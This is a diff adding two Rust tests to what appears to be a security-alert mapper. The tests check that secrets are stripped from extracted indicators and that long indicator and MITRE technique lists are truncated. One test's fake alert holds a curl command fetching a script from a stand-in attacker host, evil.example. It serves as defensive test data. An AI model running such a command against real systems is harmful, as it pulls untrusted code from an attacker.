@@ -273,3 +273,32 @@ fn an_allowlist_rule_may_tag_cap_the_severity_or_keep_the_worker_away() {
     assert_eq!(of("action = \"cap-level\"\nlevel = 5").1, ids.severity(Severity::Low));
     assert!(!of("action = \"no-ai\"").0.contains("ai-pending"));
 }
+
+#[test]
+fn a_secret_that_looks_like_an_indicator_becomes_none() {
+    let hash = ["5f4dcc3b5aa765d6", "1d8327deb882cf99"].concat();
+    let mut alert = sysmon(&format!(
+        "curl --password {hash} https://evil.example/a.sh?x=1 203.0.113.9"
+    ));
+    alert["data"]["password"] = json!(format!("https://{hash}.example/x"));
+    let new = mapped(&alert);
+    let body = serde_json::to_string(&new).unwrap();
+    assert!(!body.contains(&hash), "{body}");
+    let values: Vec<&str> = new.iocs.iter().map(|ioc| ioc.value.as_str()).collect();
+    for still in ["https://evil.example/a.sh?x=1", "203.0.113.9"] {
+        assert!(values.contains(&still), "{still} in {values:?}");
+    }
+}
+
+#[test]
+fn an_alert_with_very_many_indicators_and_techniques_says_how_many_are_not_there() {
+    let many: Vec<String> = (1..=100).map(|n| format!("203.0.113.{n}")).collect();
+    let mut alert = sysmon(&many.join(" "));
+    alert["rule"]["mitre"]["id"] = json!((0..100).map(|n| format!("T{n:04}")).collect::<Vec<_>>());
+    let new = mapped(&alert);
+    assert_eq!(new.iocs.len(), MOST_INDICATORS);
+    let description = new.description.unwrap();
+    assert!(description.contains("Indicators: the first 50 of 100"), "{description}");
+    let tags = new.tags.unwrap();
+    assert!(tags.split(',').count() < 30 && tags.contains("mitre-t0000"), "{tags}");
+}
